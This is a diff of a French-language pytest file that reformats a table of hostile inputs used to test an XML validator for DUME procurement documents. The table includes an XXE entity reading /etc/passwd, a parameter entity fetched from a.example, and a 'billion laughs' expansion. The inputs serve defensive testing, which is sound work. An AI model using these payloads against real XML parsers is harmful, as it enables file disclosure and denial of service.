@@ -16,8 +16,14 @@ def avec_type(declaration, appel):
 
 
 HOSTILES = {
-    "entité externe": (avec_type(b'<!ENTITY e SYSTEM "file:///etc/passwd">', b"&e;"), "déclare un type de document"),
-    "entité par le réseau": (avec_type(b'<!ENTITY % e SYSTEM "http://a.example/e"> %e;', b""), "déclare un type"),
+    "entité externe": (
+        avec_type(b'<!ENTITY e SYSTEM "file:///etc/passwd">', b"&e;"),
+        "déclare un type de document",
+    ),
+    "entité par le réseau": (
+        avec_type(b'<!ENTITY % e SYSTEM "http://a.example/e"> %e;', b""),
+        "déclare un type",
+    ),
     "mille rires": (
         avec_type(b'<!ENTITY a "' + b"r" * 500 + b'"><!ENTITY b "' + b"&a;" * 500 + b'">', b"&b;"),
         "déclare un type de document",
@@ -28,11 +34,17 @@ HOSTILES = {
     "autre codage annoncé": (BON.replace(b"UTF-8", b"ISO-8859-15"), "n'est pas en UTF-8"),
     "coupé": (BON[:2000], "ne se lit pas, ligne"),
     "profond": (b"<a>" * 400 + b"</a>" * 400, "ne se lit pas"),
-    "facture": (b"<Invoice xmlns='urn:oasis:names:specification:ubl:schema:xsd:Invoice-2'/>", "n'est pas un DUME"),
+    "facture": (
+        b"<Invoice xmlns='urn:oasis:names:specification:ubl:schema:xsd:Invoice-2'/>",
+        "n'est pas un DUME",
+    ),
     "vide": (b"", "ne se lit pas"),
     "pdf": (b"%PDF-1.7 \xff\xfe", "n'est pas en UTF-8"),
-    "espace de noms d'un autre": (b"<QualificationApplicationResponse xmlns='urn:x'/>", "n'est pas un DUME"),
-}  # fmt: skip
+    "espace de noms d'un autre": (
+        b"<QualificationApplicationResponse xmlns='urn:x'/>",
+        "n'est pas un DUME",
+    ),
+}
 
 
 @pytest.mark.parametrize("cas", HOSTILES)
